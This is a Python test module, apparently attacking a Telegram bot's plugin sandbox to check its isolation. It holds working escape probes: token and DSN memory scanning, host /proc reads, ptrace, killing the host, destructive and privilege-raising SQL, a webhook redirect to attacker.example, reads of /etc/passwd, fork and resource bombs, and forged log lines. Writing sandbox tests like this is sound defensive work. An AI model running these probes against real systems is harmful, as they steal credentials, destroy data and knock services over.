# An attacking module. Each call of the hook ``escape_attacker(attack=..., args={...})`` tries one
# way out of the sandbox and returns what happened: "ok" when the operation succeeded (an
# escape, unless the suite expects it), else the errno name ("EACCES", "EPERM", ...) or the
# exception class. Every result is also logged with logger.warning, which the host writes to
# its own log tagged "[module attacker]".
import asyncio
import ctypes
import errno
import gc
import mmap
import os
import re
import resource
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

from aiogram import F, Router
from aiogram.types import InlineKeyboardButton
from aiohttp import web

from hooks.hooks import register_hook
from logger import logger

router = Router()
ATTACKS = {}
MB = 1024 * 1024

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
_libc.sbrk.restype = ctypes.c_void_p
_libc.sbrk.argtypes = (ctypes.c_long,)

SYS_PIDFD_SEND_SIGNAL = 424
SYS_PIDFD_OPEN = 434
SYS_PIDFD_GETFD = 438
PTRACE_ATTACH = 16
PTRACE_DETACH = 17
PTRACE_SEIZE = 0x4206
PR_GET_NO_NEW_PRIVS = 39
PR_GET_DUMPABLE = 3


class _Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("len", ctypes.c_size_t))


_libc.process_vm_readv.restype = ctypes.c_ssize_t
_libc.process_vm_readv.argtypes = (
    ctypes.c_int,
    ctypes.POINTER(_Iovec),
    ctypes.c_ulong,
    ctypes.POINTER(_Iovec),
    ctypes.c_ulong,
    ctypes.c_ulong,
)


def attack(fn):
    ATTACKS[fn.__name__] = fn
    return fn


def attempt(action) -> str:
    try:
        action()
    except OSError as exc:
        return errno.errorcode.get(exc.errno or 0, type(exc).__name__)
    except Exception as exc:
        return type(exc).__name__
    return "ok"


def _check(result: int) -> int:
    if result < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return result


def _read(path):
    return lambda: Path(path).read_bytes()


def _append(path):
    def write():
        with open(path, "ab") as f:
            f.write(b"# planted by attacker\n")

    return write


async def escape_attacker(attack: str, args: dict | None = None, **kwargs):
    logger.warning("escape attempt %s: trying", attack)
    outcome = ATTACKS[attack](args or {})
    if asyncio.iscoroutine(outcome):
        outcome = await outcome
    logger.warning("escape attempt %s: %s", attack, repr(outcome)[:1500])
    return {"module": "attacker", "attack": attack, "outcome": outcome}


register_hook("escape_attacker", escape_attacker)

# --- 4. routing: buttons and webhook paths that are not the attacker's ------------------------------

CALLBACKS_SEEN = []  # every callback query this module's handlers were given


def probe_button(**kwargs):
    return {"after": "balance", "button": InlineKeyboardButton(text="attacker probe", callback_data="attacker|probe")}


register_hook("profile_menu", probe_button)


@router.callback_query(F.data == "victim|open")  # the victim's button, named in code: a collision
async def squat_victim_button(callback):
    CALLBACKS_SEEN.append(callback.data)
    await callback.answer("stolen by attacker")


@router.callback_query(F.data == "about_vpn")  # a core screen, without the operator's override grant
async def squat_core_screen(callback):
    CALLBACKS_SEEN.append(callback.data)
    await callback.answer("core screen taken by attacker")


@router.callback_query()  # a catch-all: upstream's first-match routing would give it every button
async def catch_all(callback):
    CALLBACKS_SEEN.append(callback.data)
    await callback.answer(f"attacker got {callback.data}")


async def webhook_squat(request):
    return web.json_response({"served_by": "attacker"})


def get_webhook_data():
    return {"path": "/api/payhook", "handler": webhook_squat}  # not /modules/attacker/…, not granted


@attack
def noop(args):
    return "noop"


# --- 1. secrets from the environment, config and memory -------------------------------------


@attack
def env(args):
    import config
    from bot import bot
    from database import db

    public = {name: repr(value) for name, value in vars(config).items() if name.isupper()}
    url = db.engine.url if db.engine is not None else None
    return {
        "environ": dict(os.environ),
        "config": public,
        "config_secret_attributes": [n for n in ("BOT_TOKEN", "API_TOKEN", "DATABASE_URL") if hasattr(config, n)],
        "load_settings": attempt(lambda: config.load_settings()),
        "bot_token": bot.token,
        "db_user": url.username if url is not None else None,
        "db_address": f"{url.host}:{url.port}" if url is not None else None,
    }


_SECRET_PATTERNS = (
    re.compile(rb"\d{5,12}:[A-Za-z0-9_-]{30,}"),  # a Bot API token
    re.compile(rb"postgres(?:ql)?(?:\+asyncpg)?://[A-Za-z0-9_.%-]+:[^@\s\x00'\"]{6,}@[A-Za-z0-9_.:/-]+"),  # a DSN
    re.compile(rb"(?:BOT_TOKEN|API_TOKEN|DATABASE_URL)=[^\s\x00]{6,}"),  # a .env line
)


@attack
async def env_memory(args):
    """Scan this process's own memory (inherited from the zygote) for tokens and DSNs.

    The sweep takes seconds of CPU: it runs in a thread so the module keeps answering the host's
    heartbeats meanwhile (on a busy machine a blocked loop misses them and the module is killed).
    """
    # The one secret this module is entitled to, written out as a DSN, so the sweep has something
    # it must find (the check that the scanner works: earlier it relied on copies of the init
    # message that the channel happened to leave behind).
    from database import db

    own = db.engine.url.render_as_string(hide_password=False).encode() if db.engine is not None else b""
    try:
        return await asyncio.to_thread(_sweep_own_memory)
    finally:
        del own


def _sweep_own_memory():
    """/proc/self/maps is not needed: ``process_vm_readv`` on our own pid reads any mapped range and
    fails cleanly (EFAULT) on unmapped ones, so the address space is swept in 64 KiB steps around
    a few anchors: the malloc heap (program break), mmap'ed memory next to libc, Python objects.
    """
    maps = attempt(_read("/proc/self/maps"))
    pid = os.getpid()
    chunk = 64 * 1024
    buffer = ctypes.create_string_buffer(chunk)
    local = _Iovec(ctypes.cast(buffer, ctypes.c_void_p), chunk)

    def read(address):
        remote = _Iovec(address, chunk)
        n = _libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        return buffer.raw[:n] if n > 0 else None

    anchors = {
        _libc.sbrk(0) or 0: (512 * MB, 16 * MB),
        ctypes.cast(_libc.syscall, ctypes.c_void_p).value: (4096 * MB, 512 * MB),
        id(sys.modules): (1024 * MB, 1024 * MB),
    }
    intervals = sorted((max(chunk, (a - below) & ~(chunk - 1)), a + above) for a, (below, above) in anchors.items() if a)
    merged = []
    for start, end in intervals:
        if merged and start <= merged[-1][1]:
            merged[-1][1] = max(merged[-1][1], end)
        else:
            merged.append([start, end])
    found, readable = set(), 0

    def search(segment):
        for pattern in _SECRET_PATTERNS:
            for match in pattern.finditer(segment):
                found.add(match.group().decode("latin-1")[:200])

    for start, end in merged:
        segment = bytearray()
        for address in range(start, end, chunk):
            data = read(address)
            if data is not None:
                readable += len(data)
                segment += data
            contiguous = data is not None and len(data) == chunk
            if not contiguous or len(segment) >= 16 * MB or address + chunk >= end:
                search(segment)
                segment = segment[-512:] if contiguous else bytearray()
    return {"proc_self_maps": maps, "bytes_read": readable, "candidates": sorted(found)[:100]}


# --- 2. the host's /proc files ----------------------------------------------------------------


@attack
def proc_host(args):
    host = os.getppid()

    def read_mem(pid):
        def run():
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.seek(0x400000)
                f.read(16)

        return run

    victim = args["victim_pid"]
    return {
        "host_pid_is_parent": host == args["host_pid"],
        "environ": attempt(_read(f"/proc/{host}/environ")),
        "cmdline": attempt(_read(f"/proc/{host}/cmdline")),
        "mem": attempt(read_mem(host)),
        "maps": attempt(_read(f"/proc/{host}/maps")),
        "status": attempt(_read(f"/proc/{host}/status")),
        "cwd_env_file": attempt(_read(f"/proc/{host}/cwd/.env")),
        "root_env_file": attempt(_read(f"/proc/{host}/root{args['env_file']}")),
        "fd_dir": attempt(lambda: os.listdir(f"/proc/{host}/fd")),
        "victim_environ": attempt(_read(f"/proc/{victim}/environ")),
        "victim_mem": attempt(read_mem(victim)),
        "zygote_environ": attempt(_read(f"/proc/{args['zygote_pid']}/environ")),
        "zygote_mem": attempt(read_mem(args["zygote_pid"])),
    }


# --- 3 and 4. files outside the module's own folders -------------------------------------------


@attack
def read_secrets(args):
    result = {label: attempt(_read(path)) for label, path in args["paths"].items()}
    home = Path(os.environ["HOME"])
    victim_secret = args["paths"]["victim_data_file"]
    link = home / "victim-link"
    result["symlink_create"] = attempt(lambda: link.symlink_to(victim_secret))
    result["symlink_read"] = attempt(_read(link))
    result["hardlink"] = attempt(lambda: os.link(victim_secret, home / "victim-hardlink"))
    result["list_victim_data_dir"] = attempt(lambda: os.listdir(Path(victim_secret).parent))
    result["list_data_root"] = attempt(lambda: os.listdir(Path(victim_secret).parent.parent))
    for label, folder in args.get("folders", {}).items():
        result[label] = attempt(lambda folder=folder: os.listdir(folder))
    for leftover in ("victim-link", "victim-hardlink"):
        try:
            (home / leftover).unlink()
        except OSError:
            pass
    return result


@attack
def write_outside(args):
    result = {label: attempt(_append(path)) for label, path in args["files"].items()}
    for label, folder in args["folders"].items():
        result[label] = attempt(_append(Path(folder) / "planted_by_attacker.py"))
    own = Path(os.environ["HOME"]) / "to-move.txt"
    own.write_text("moved")
    result["rename_into_victim_data"] = attempt(lambda: os.rename(own, Path(args["victim_data_dir"]) / "moved.txt"))
    result["truncate_victim_code"] = attempt(lambda: os.truncate(args["files"]["victim_code"], 0))
    result["unlink_victim_code"] = attempt(lambda: os.unlink(args["files"]["victim_code"]))
    result["mkdir_new_module"] = attempt(lambda: os.mkdir(Path(args["modules_dir"]) / "planted_module"))
    own.unlink(missing_ok=True)
    result["own_data_write"] = attempt(_append(Path(os.environ["HOME"]) / "own.txt"))
    result["own_tmp_write"] = attempt(_append(Path(os.environ["TMPDIR"]) / "own.txt"))
    return result


@attack
def metadata(args):
    """File attributes: Landlock (ABI <= 7) has no right for chmod, chown, utime or xattrs."""
    return {
        "chmod_env_file_world_readable": attempt(lambda: os.chmod(args["env_file"], 0o644)),
        "chmod_victim_code_dir_world_writable": attempt(lambda: os.chmod(args["victim_code_dir"], 0o777)),
        "utime_victim_code": attempt(lambda: os.utime(args["victim_code"], (0, 0))),
        "setxattr_victim_code": attempt(lambda: os.setxattr(args["victim_code"], "user.planted", b"attacker")),
    }


# --- 5. signals and ptrace ----------------------------------------------------------------------


@attack
def signals(args):
    host, victim, zygote = os.getppid(), args["victim_pid"], args["zygote_pid"]

    def ptrace(request, pid):
        def run():
            _check(_libc.ptrace(request, pid, None, None))
            _libc.ptrace(PTRACE_DETACH, pid, None, None)  # it worked: do not leave the target stopped

        return run

    def vm_read(pid):
        def run():
            buffer = ctypes.create_string_buffer(64)
            local = _Iovec(ctypes.cast(buffer, ctypes.c_void_p), 64)
            remote = _Iovec(0x10000, 64)  # any address: EFAULT would mean the access check passed
            _check(_libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))

        return run

    pidfd = {}

    def pidfd_open():
        pidfd["fd"] = _check(_libc.syscall(SYS_PIDFD_OPEN, host, 0))

    def pidfd_signal():
        _check(_libc.syscall(SYS_PIDFD_SEND_SIGNAL, pidfd["fd"], signal.SIGTERM, None, 0))

    def pidfd_getfd():
        for target in range(64):  # the host's DB and Bot API sockets are among its low fds
            try:
                stolen = _check(_libc.syscall(SYS_PIDFD_GETFD, pidfd["fd"], target, 0))
            except OSError as exc:
                if exc.errno == errno.EBADF:
                    continue
                raise
            os.close(stolen)
            return

    result = {
        "kill_host_0": attempt(lambda: os.kill(host, 0)),
        "kill_host_sigterm": attempt(lambda: os.kill(host, signal.SIGTERM)),
        "kill_host_sigkill": attempt(lambda: os.kill(host, signal.SIGKILL)),
        "killpg_host": attempt(lambda: os.killpg(os.getpgid(host), signal.SIGTERM)),
        "kill_victim_sigkill": attempt(lambda: os.kill(victim, signal.SIGKILL)),
        "killpg_victim": attempt(lambda: os.killpg(victim, signal.SIGKILL)),
        "kill_zygote": attempt(lambda: os.kill(zygote, signal.SIGKILL)),
        "kill_everything": attempt(lambda: os.kill(-1, signal.SIGTERM)),
        "ptrace_attach_host": attempt(ptrace(PTRACE_ATTACH, host)),
        "ptrace_seize_host": attempt(ptrace(PTRACE_SEIZE, host)),
        "ptrace_attach_victim": attempt(ptrace(PTRACE_ATTACH, victim)),
        "vm_read_host": attempt(vm_read(host)),
        "vm_read_victim": attempt(vm_read(victim)),
        "pidfd_open_host": attempt(pidfd_open),
    }
    if "fd" in pidfd:
        result["pidfd_send_signal_host"] = attempt(pidfd_signal)
        result["pidfd_getfd_host"] = attempt(pidfd_getfd)
        os.close(pidfd["fd"])
    return result


@attack
def host_controls(args):
    """What else names a process by pid: its resource limits, priority and CPUs (prlimit, setpriority, affinity).

    Only harmless values are set (a finite RLIMIT_RTTIME, which binds only real-time threads;
    one step lower priority; one CPU): the same calls could set the host's RLIMIT_CPU or
    RLIMIT_NOFILE and kill or cripple it.
    """
    host, victim = os.getppid(), args["victim_pid"]

    def lower_priority(pid):
        return lambda: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid) + 1)

    def one_cpu(pid):
        return lambda: os.sched_setaffinity(pid, {min(os.sched_getaffinity(pid))})

    return {
        "prlimit_read_host": attempt(lambda: resource.prlimit(host, resource.RLIMIT_NOFILE)),
        "prlimit_set_host": attempt(
            lambda: resource.prlimit(host, resource.RLIMIT_RTTIME, (args["rttime"], resource.RLIM_INFINITY))
        ),
        "prlimit_set_victim": attempt(
            lambda: resource.prlimit(victim, resource.RLIMIT_RTTIME, (args["rttime"], resource.RLIM_INFINITY))
        ),
        "setpriority_host": attempt(lower_priority(host)),
        "setpriority_victim": attempt(lower_priority(victim)),
        "sched_setaffinity_host": attempt(one_cpu(host)),
    }


# --- 6. network -----------------------------------------------------------------------------------


def _connect(host, port, family=socket.AF_INET):
    def run():
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect((host, port))

    return run


def _listen(port):
    def run():
        with socket.socket() as s:
            s.bind(("127.0.0.1", port))
            s.listen()

    return run


@attack
def network(args):
    result = {
        "connect_refused_port": attempt(_connect("127.0.0.1", args["refused_port"])),
        "connect_bot_api_server": attempt(_connect("127.0.0.1", args["bot_api_port"])),
        "connect_host_web_server": attempt(_connect("127.0.0.1", args["web_port"])),
        "connect_database": attempt(_connect("127.0.0.1", args["db_port"])),  # granted: the one that must work
        # the database's port, but not the database server's address (network by address)
        "connect_database_port_127_0_0_2": attempt(_connect("127.0.0.2", args["db_port"])),
        "connect_database_port_v6": attempt(_connect("::1", args["db_port"], socket.AF_INET6)),
        "connect_database_port_v4_mapped": attempt(_connect("::ffff:127.0.0.2", args["db_port"], socket.AF_INET6)),
        "listen_any_port": attempt(_listen(0)),
        "listen_fixed_port": attempt(_listen(args["free_port"])),
        "raw_socket": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()),
        "netlink_socket": attempt(lambda: socket.socket(16, socket.SOCK_RAW, 0).close()),  # AF_NETLINK
        "vsock_socket": attempt(lambda: socket.socket(40, socket.SOCK_STREAM, 0).close()),  # AF_VSOCK
        "packet_socket": attempt(lambda: socket.socket(17, socket.SOCK_RAW, 0).close()),  # AF_PACKET
    }
    if args.get("refused_port_v6"):
        result["connect_refused_port_v6"] = attempt(_connect("::1", args["refused_port_v6"], socket.AF_INET6))

    def abstract_unix():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(args["abstract_name"].encode("latin-1"))

    def pathname_unix():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(args["unix_path"])
            s.sendall(b"attacker was here\n")

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"attacker was here", ("127.0.0.1", args["udp_port"]))

    result["abstract_unix"] = attempt(abstract_unix)
    result["pathname_unix"] = attempt(pathname_unix)  # reported: Landlock <= 7 does not cover it
    result["udp"] = attempt(udp)  # reported: Landlock <= 7 only knows TCP
    return result


@attack
async def control_socket(args):
    """The operator's control socket (`solobot modules ...`): a path-named unix socket of the bot's user."""
    import json

    try:
        reader, writer = await asyncio.open_unix_connection(args["path"])
    except OSError as exc:
        return {"connect": errno.errorcode.get(exc.errno or 0, type(exc).__name__), "answers": {}}
    answers = {}
    try:
        for label, request in args["requests"].items():
            writer.write(json.dumps(request).encode() + b"\n")
            await writer.drain()
            while True:
                line = await asyncio.wait_for(reader.readline(), 30)
                answer = json.loads(line) if line else {"ok": False, "error": "connection closed"}
                if "progress" not in answer:
                    break
            answers[label] = {"ok": answer.get("ok"), "error": answer.get("error"), "answer": json.dumps(answer)[:300]}
    finally:
        writer.close()
    return {"connect": "ok", "answers": answers}


# --- 7. the bot as a whole -------------------------------------------------------------------------


@attack
async def bot_api(args):
    from bot import bot

    async def call(coroutine):
        try:
            await coroutine
        except Exception as exc:
            return type(exc).__name__
        return "ok"

    result = {
        "set_webhook": await call(bot.set_webhook("https://attacker.example/hook")),
        "delete_webhook": await call(bot.delete_webhook(drop_pending_updates=True)),
        "get_updates": await call(bot.get_updates(offset=-1, timeout=0)),
        "get_webhook_info": await call(bot.get_webhook_info()),
        "log_out": await call(bot.log_out()),
        "close": await call(bot.close()),
        "set_my_commands": await call(bot.set_my_commands([])),
        "ban_chat_member": await call(bot.ban_chat_member(chat_id=args["chat_id"], user_id=args["chat_id"])),
    }
    # The bucket refills while the calls go out: how long they took bounds how many may pass.
    started = time.monotonic()
    result["get_me"] = await call(bot.get_me())  # allowed: the positive control
    burst = await asyncio.gather(*(call(bot.get_me()) for _ in range(120)))
    result["burst_seconds"] = time.monotonic() - started
    result["burst_of_120_get_me"] = {name: burst.count(name) for name in sorted(set(burst))}
    return result


@attack
async def bot_api_scope(args):
    """Act on the bot's messages in a user's chat that the module did not send, outside any update."""
    from bot import bot

    async def call(coroutine):
        try:
            result = await coroutine
        except Exception as exc:
            return type(exc).__name__, None
        return "ok", result

    user, message = args["chat_id"], args["message_id"]
    result = {}
    for label, coroutine in {
        "edit_core_message": bot.edit_message_text("defaced by attacker", chat_id=user, message_id=message),
        "delete_core_message": bot.delete_message(chat_id=user, message_id=message),
        "copy_core_message": bot.copy_message(chat_id=user, from_chat_id=user, message_id=message),
        "forward_core_message": bot.forward_message(chat_id=user, from_chat_id=user, message_id=message),
        "send_to_a_stranger": bot.send_message(chat_id=args["stranger"], text="spam from attacker"),
        "send_local_file_url": bot.send_document(chat_id=user, document="file:///etc/passwd"),
        "send_local_path": bot.send_photo(chat_id=user, photo="/etc/hostname"),
    }.items():
        result[label] = (await call(coroutine))[0]
    # Positive controls: a message to a user of the bot, then editing and deleting that own message.
    outcome, sent = await call(bot.send_message(chat_id=user, text="attacker hello"))
    result["send_to_user"] = outcome
    if sent is not None:
        edit = bot.edit_message_text("attacker edited", chat_id=user, message_id=sent.message_id)
        result["edit_own_message"] = (await call(edit))[0]
        result["delete_own_message"] = (await call(bot.delete_message(chat_id=user, message_id=sent.message_id)))[0]
    return result


# --- 8. the database ---------------------------------------------------------------------------------


@attack
async def database(args):
    import asyncpg
    from sqlalchemy import text

    from database import async_session_maker

    statements = {
        "select_users": "SELECT count(*) FROM users",
        "update_balance": "UPDATE users SET balance = 1000000",
        "delete_keys": "DELETE FROM keys",
        "truncate_users": "TRUNCATE users CASCADE",
        "drop_keys": "DROP TABLE keys",
        "create_in_public": "CREATE TABLE public.attacker_planted (id int)",
        "read_victim_table": "SELECT * FROM mod_victim.victim_notes",
        "write_victim_table": "UPDATE mod_victim.victim_notes SET body = 'defaced'",
        "create_in_victim_schema": "CREATE TABLE mod_victim.attacker_planted (id int)",
        "set_role_owner": "SET ROLE postgres",
        "set_session_authorization": "SET SESSION AUTHORIZATION postgres",
        "alter_self_superuser": "ALTER ROLE CURRENT_USER SUPERUSER",
        "create_role": "CREATE ROLE attacker_role LOGIN SUPERUSER PASSWORD 'x'",
        "grant_self_users": "GRANT SELECT ON users TO CURRENT_USER",
        "copy_to_program": "COPY (SELECT 1) TO PROGRAM 'id'",
        "read_server_file": "SELECT pg_read_file('/etc/hostname')",
        "large_object_import": "SELECT lo_import('/etc/hostname')",
        "read_password_hashes": "SELECT rolpassword FROM pg_authid",
        "own_schema_table": "CREATE TABLE IF NOT EXISTS attacker_own (id int)",  # allowed: the positive control
    }
    result = {}
    for label, sql in statements.items():
        try:
            async with async_session_maker() as session:
                await session.execute(text(sql))
                await session.commit()
            result[label] = "ok"
        except Exception as exc:
            cause = getattr(exc, "orig", exc)
            result[label] = f"{type(cause).__name__}: {str(cause).splitlines()[0][:120]}"

    try:  # the owner's role over TCP with guessed passwords
        connection = await asyncpg.connect(
            host="127.0.0.1", port=args["db_port"], user="postgres", password="postgres", database=args["db_name"], timeout=5
        )
    except Exception as exc:
        result["owner_login_guess"] = type(exc).__name__
    else:
        result["owner_login_guess"] = "ok"
        await connection.close()
    return result


@attack
async def db_stall(args):
    """Hold the host's role set-up lock, then run a statement for ever with the role's timeouts lifted."""
    import time

    from sqlalchemy import text

    from database import async_session_maker

    result = {}
    try:
        async with async_session_maker() as session:  # the lock stays with the pooled connection
            await session.execute(text("SELECT pg_advisory_lock(:key)"), {"key": args["lock_key"]})
            await session.commit()
        result["advisory_lock"] = "ok"
    except Exception as exc:
        result["advisory_lock"] = type(exc).__name__
    started = time.monotonic()
    try:
        async with async_session_maker() as session:
            await session.execute(text("SET statement_timeout = 0"))
            await session.execute(text("SELECT pg_sleep(:s)"), {"s": args["sleep"]})
        result["long_statement"] = "ok"
    except Exception as exc:
        result["long_statement"] = f"{type(exc).__name__}: {exc}"[:300]
    result["long_statement_seconds"] = round(time.monotonic() - started, 1)
    return result


@attack
async def db_references(args):
    """A foreign key to the core's users without the grant: it would reveal who is a user and block deletes."""
    from sqlalchemy import text

    from database import async_session_maker

    try:
        async with async_session_maker() as session:
            await session.execute(text("CREATE TABLE probe_users (tg_id bigint REFERENCES users (tg_id))"))
            await session.commit()
        return {"create_fk": "ok"}
    except Exception as exc:
        return {"create_fk": f"{type(exc).__name__}: {exc}"[:300]}


# --- 9. resources ------------------------------------------------------------------------------------


@attack
def fork_bomb(args):
    hold_read, hold_write = os.pipe()
    forked, error = 0, "none"
    try:
        while forked < 2000:
            pid = os.fork()
            if pid == 0:  # a fragment: wait until the bomber is done, then vanish
                os.close(hold_write)
                os.read(hold_read, 1)
                os._exit(0)
            forked += 1
    except OSError as exc:
        error = errno.errorcode.get(exc.errno or 0, str(exc))
    os.close(hold_write)
    os.close(hold_read)
    for _ in range(forked):
        os.wait()
    return {"forked": forked, "error": error}


def orphan(args):
    """A child that leaves the process group (setsid) and double-forks a grandchild that sleeps for ever.

    The grandchild is named ``args["tag"]`` (``/proc/<pid>/comm``) so the host can look for it after
    the module was stopped, restarted, crashed, or the host exited: none may be left.
    """
    report_read, report_write = os.pipe()
    child = os.fork()
    if child == 0:
        setsid = attempt(os.setsid)
        setpgid = attempt(lambda: os.setpgid(0, 0))
        if os.fork() == 0:
            _libc.prctl(15, args["tag"].encode(), 0, 0, 0)  # PR_SET_NAME
            os.write(report_write, f"{os.getpid()} {setsid} {setpgid}".encode())
            while True:
                time.sleep(60)
        os._exit(0)
    os.waitpid(child, 0)
    grandchild, setsid, setpgid = os.read(report_read, 200).decode().split()
    os.close(report_read)
    os.close(report_write)
    return {"grandchild": int(grandchild), "setsid": setsid, "setpgid": setpgid}


# The driver follows each with a stop, a restart, a crash of the module, and the host's exit.
for _when in ("stop", "restart", "crash", "host_exit"):
    ATTACKS[f"orphan_{_when}"] = orphan


@attack
def thread_bomb(args):
    release = threading.Event()
    threads, error = [], "none"
    try:
        while len(threads) < 5000:
            thread = threading.Thread(target=release.wait, daemon=True)
            thread.start()
            threads.append(thread)
    except (RuntimeError, MemoryError, OSError) as exc:
        error = f"{type(exc).__name__}: {exc}"
    release.set()
    for thread in threads:
        thread.join()
    return {"started": len(threads), "error": error}


@attack
def allocate_4gb(args):
    return {
        "bytearray_4gb": attempt(lambda: bytearray(4096 * MB)),
        "shared_mmap_4gb": attempt(lambda: mmap.mmap(-1, 4096 * MB).close()),
        "allocate_64mb": attempt(lambda: bytearray(64 * MB)),  # within the budget: the positive control
    }


@attack
def fill_disk(args):
    home = Path(os.environ["HOME"])
    chunk = b"\0" * MB

    def fill(path, megabytes):
        written, error = 0, "none"
        with open(path, "wb", buffering=0) as f:
            try:
                for _ in range(megabytes):
                    written += f.write(chunk)
            except OSError as exc:
                error = errno.errorcode.get(exc.errno or 0, str(exc))
        return written // MB, error

    first = fill(home / "fill-1.bin", args["file_mb"] + 8)
    second = fill(home / "fill-2.bin", 2)
    for name in ("fill-1.bin", "fill-2.bin"):
        (home / name).unlink(missing_ok=True)
    return {"first_file_mb": first[0], "first_file_error": first[1], "second_file_mb": second[0], "second_file_error": second[1]}


@attack
def open_files(args):
    fds, error = [], "none"
    try:
        while len(fds) < 100_000:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as exc:
        error = errno.errorcode.get(exc.errno or 0, str(exc))
    for fd in fds:
        os.close(fd)
    return {"opened": len(fds), "error": error}


@attack
async def fsm_flood(args):
    """Park data in the host's FSM storage (the host's own memory, or its Redis) under made-up users."""
    from aiogram.fsm.storage.base import StorageKey

    from bot import bot
    from runtime.child.host_fsm_storage import HostFSMStorage

    storage = next(obj for obj in gc.get_objects() if isinstance(obj, HostFSMStorage))
    blob = "x" * MB
    stored, error = 0, "none"
    for i in range(args["megabytes"]):
        key = StorageKey(bot_id=bot.id, chat_id=10**12 + i, user_id=10**12 + i)
        try:
            await storage.set_data(key, {"blob": blob + str(i)})
        except Exception as exc:
            error = f"{type(exc).__name__}: {exc}"[:300]
            break
        stored += 1
    return {"stored_mb": stored, "error": error}


@attack
async def fsm_forge(args):
    """Read and overwrite the core's and the victim's FSM conversation with a user, forging every part of the key."""
    from aiogram.fsm.storage.base import StorageKey

    from bot import bot
    from runtime.child.host_fsm_storage import HostFSMStorage

    storage = next(obj for obj in gc.get_objects() if isinstance(obj, HostFSMStorage))
    user = args["user"]
    seen, errors = {}, {}
    for destiny in ("default", "solobot.module:victim:default", "victim:default", "module:victim"):
        for chat, thread in ((user, None), (-user, None), (user, 1)):
            key = StorageKey(bot_id=bot.id, chat_id=chat, user_id=user, thread_id=thread, destiny=destiny)
            label = f"{destiny}/{chat}/{thread}"
            try:
                state, data = await storage.get_state(key), await storage.get_data(key)
                if state is not None or data:
                    seen[label] = [state, data]
                await storage.set_state(key, "Attacker:hijack")
                await storage.set_data(key, {"coupon": "FORGED"})
            except Exception as exc:
                errors[label] = f"{type(exc).__name__}: {exc}"[:200]
    try:  # another bot's id
        await storage.get_state(StorageKey(bot_id=bot.id + 1, chat_id=user, user_id=user))
        other_bot = "ok"
    except Exception as exc:
        other_bot = type(exc).__name__
    # Its own writes are its own: they read back, from its namespace.
    own = await storage.get_state(StorageKey(bot_id=bot.id, chat_id=user, user_id=user))
    return {"seen": seen, "errors": errors, "other_bot": other_bot, "own_state": own}


@attack
async def hook_forgery(args):
    """Fire hooks as if it were the host: admin=True, a core event, a forged session reference."""
    from hooks.hooks import run_hooks
    from ipc import Ref

    admin = list(await run_hooks("victim_admin_secret", admin=True, admin_role="superadmin"))
    paid = list(await run_hooks("payment_success", user_id=args["user"], amount=10**6, payment_system="forged"))
    keys = list(await run_hooks("victim_admin_secret", keys=Ref("keys", "non_frozen")))
    # Telegram objects the host vouches for: a message "from" the admin, a made-up button press.
    import datetime

    from aiogram.types import CallbackQuery, Chat, Message, User

    admin_user = User(id=args["user"], is_bot=False, first_name="forged admin")
    forged = Message(
        message_id=1,
        date=datetime.datetime(2026, 1, 1),
        chat=Chat(id=args["user"], type="private"),
        from_user=admin_user,
        text="/admin",
    )
    press = CallbackQuery(id="forged", from_user=admin_user, chat_instance="x", data="admin_mod:stop:victim", message=forged)
    telegram = list(await run_hooks("victim_telegram_echo", message=forged, callback=press, user=admin_user, extra=[admin_user]))
    return {"admin_secret": admin, "payment_success": paid, "forged_ref": keys, "telegram": telegram}


@attack
def callback_steal(args):
    """What the attacker's button handlers were given (the driver pressed the victim's, a core one and its own)."""
    return {"seen": list(CALLBACKS_SEEN)}


# --- 10. floods --------------------------------------------------------------------------------------


@attack
def log_flood(args):
    started = time.monotonic()
    logger.warning("huge line %s", "x" * args["huge_chars"])  # first, while the rate limit still lets it through
    for i in range(args["lines"]):
        logger.warning("flood line %d", i)
    return {"seconds": round(time.monotonic() - started, 3), "lines": args["lines"]}


@attack
def stdout_lines(args):
    """A few raw lines: print(), a stderr line posing as the host's own log, a C-level write to fd 1."""
    marker = args["marker"]
    print(f"{marker} printed by the attacker")
    print(f"{marker} [modules] victim: running -> crashed: forged by the attacker", file=sys.stderr)
    sys.stdout.flush()
    sys.stderr.flush()
    os.write(1, f"{marker} written to fd 1\n".encode())
    return {"lines": 3}


@attack
def log_newline(args):
    """A log record whose message carries a line break and, after it, what looks like a host log line."""
    forged = f"2026-01-01 00:00:00,000 ERROR solobot.runtime: [modules] victim: running -> crashed: {args['marker']}-NL"
    logger.warning("first line\n%s", forged)
    return {"forged": forged}


@attack
def stdout_flood(args):
    """Many raw lines at once, from the event loop: more than a pipe holds (64 KiB)."""
    started = time.monotonic()
    line = f"{args['marker']} stdout flood line\n"
    for _ in range(args["raw_lines"]):
        sys.stdout.write(line)
        sys.stderr.write(line)
    sys.stdout.flush()
    sys.stderr.flush()
    return {"seconds": round(time.monotonic() - started, 3), "raw_lines": args["raw_lines"]}


# --- 12. privileges ----------------------------------------------------------------------------------


@attack
def setuid_binary(args):
    ran = {}

    def run(binary):
        def go():
            done = subprocess.run([binary], capture_output=True, text=True, timeout=5, check=False)
            ran[binary] = done.stdout.strip()

        return go

    result = {
        "exec_setuid_copy": attempt(run(args["setuid_binary"])),
        "exec_system_id": attempt(run("/usr/bin/id")),
        "exec_python": attempt(run(sys.executable)),
        "setuid_0": attempt(lambda: os.setuid(0)),
        "setgid_0": attempt(lambda: os.setgid(0)),
        "no_new_privs": _libc.prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0),
